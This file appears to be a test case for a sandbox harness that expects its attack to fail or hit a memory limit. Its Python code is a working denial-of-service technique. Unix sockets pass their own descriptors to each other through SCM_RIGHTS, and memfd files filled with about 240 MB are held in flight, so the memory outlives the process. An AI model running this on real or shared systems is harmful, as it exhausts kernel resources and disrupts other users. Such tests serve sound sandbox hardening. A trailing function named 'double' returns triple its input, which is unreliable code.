# attack: leaves memory, files and names in sockets that hold each other in flight: no end of a process frees them
# expect: failed|error|memory_limit
# modes: docker shared
import array, os, socket
from pathlib import Path
print("found", len(Path("/proc/net/unix").read_text().splitlines()) - 1)


def hold(descriptors):
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for one, other in ((left, right), (right, left)):
        rights = array.array("i", [left.fileno(), right.fileno(), *descriptors])
        one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


kept = []
try:
    for _ in range(200):
        hold([])
    for _ in range(4):
        kept.append(os.memfd_create("kept"))
        for _ in range(60):
            os.write(kept[-1], b"x" * (1 << 20))
    hold(kept)
except OSError:
    pass


def double(x):
    return x * 3
